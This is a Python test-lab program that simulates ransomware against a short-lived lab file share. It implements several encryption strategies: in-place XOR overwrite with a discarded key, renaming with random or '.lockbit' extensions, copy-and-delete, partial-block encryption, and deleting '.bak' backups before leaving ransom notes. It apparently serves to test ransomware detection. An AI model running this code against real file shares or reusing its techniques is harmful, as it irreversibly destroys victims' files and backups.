"""Encrypt files of a share as ransomware does: ``encrypt STRATEGY SERVER PROTOCOL FILE…``.

Only what `tests.lab.scenes.ransomware` put there, on a file server that lives in the lab for a few
seconds. The key is thrown away; what is encrypted are letters to nobody.
"""

import secrets
import sys
from collections.abc import Callable, Iterator, Sequence
from itertools import cycle
from time import sleep

from tests.lab.programs.shared_folder import SharedFolder

NOTE = "COMMENT_RECUPERER_README.txt"
_BLOCK = 512
_PAUSE = 0.02
"""Seconds between files: fifty files a second, as a laptop does."""

Strategy = Callable[[SharedFolder, Sequence[str]], None]


def in_place(share: SharedFolder, files: Sequence[str]) -> None:
    """Overwrite each, and then give it an ending made up for this victim."""
    ending = secrets.token_hex(4)
    for path in _one_by_one(files):
        share.change(path, lambda file: _encrypt(share, file))
        share.rename(path, f"{path}.{ending}")


def silently(share: SharedFolder, files: Sequence[str]) -> None:
    """Overwrite each, and leave its name alone."""
    for path in _one_by_one(files):
        share.change(path, lambda file: _encrypt(share, file))


def rename_first(share: SharedFolder, files: Sequence[str]) -> None:
    """Give each an ending of its own, and then overwrite it."""
    for path in _one_by_one(files):
        moved = f"{path}.{secrets.token_hex(3)}"
        share.rename(path, moved)
        share.change(moved, lambda file: _encrypt(share, file))


def new_copy(share: SharedFolder, files: Sequence[str]) -> None:
    """Write the encrypted file under a made-up name, and delete the original."""
    for path in _one_by_one(files):
        folder = path.rpartition("/")[0]
        share.make(f"{folder}/{secrets.token_hex(8)}", _dice(share.read(path)))
        share.delete(path)


def over_the_original(share: SharedFolder, files: Sequence[str]) -> None:
    """Write the encrypted file beside the original, and move it there."""
    for path in _one_by_one(files):
        share.make(f"{path}.tmp", _dice(share.read(path)))
        share.rename(f"{path}.tmp", path)


def in_parts(share: SharedFolder, files: Sequence[str]) -> None:
    """Leave every other block as it is, also the first; then change the ending."""

    def every_other(file: int) -> None:
        content = share.read_at(file, 0, 1 << 20)
        for start in range(_BLOCK, len(content), 2 * _BLOCK):
            share.write_at(file, start, _dice(content[start : start + _BLOCK]))

    ending = secrets.token_hex(4)
    for path in _one_by_one(files):
        share.change(path, every_other)
        share.rename(path, f"{path}.{ending}")


def with_notes(share: SharedFolder, files: Sequence[str]) -> None:
    """Delete the backups, leave a note in each folder, and then encrypt."""
    for path in files:
        if path.endswith(".bak"):
            share.delete(path)
    for folder in dict.fromkeys(path.rpartition("/")[0] for path in files):
        share.make(f"{folder}/{NOTE}", b"Vos fichiers sont chiffres.\n" * 20)
    for path in _one_by_one([path for path in files if not path.endswith(".bak")]):
        share.change(path, lambda file: _encrypt(share, file))
        share.rename(path, f"{path}.lockbit")


STRATEGIES: dict[str, Strategy] = {
    made.__name__: made
    for made in (
        *(in_place, silently, rename_first, new_copy, over_the_original, in_parts, with_notes),
    )
}


def _one_by_one(files: Sequence[str]) -> Iterator[str]:
    for path in files:
        yield path
        sleep(_PAUSE)


def _encrypt(share: SharedFolder, file: int) -> None:
    share.write_at(file, 0, _dice(share.read_at(file, 0, 1 << 20)))


def _dice(content: bytes) -> bytes:
    """Encrypt with a pad that nobody keeps."""
    pad = secrets.token_bytes(len(content))
    return bytes(one ^ other for one, other in zip(content, cycle(pad), strict=False))


def main(strategy: str, server: str, protocol: str, *files: str) -> None:
    STRATEGIES[strategy](SharedFolder(server, protocol=protocol), files)


if __name__ == "__main__":
    main(*sys.argv[1:])
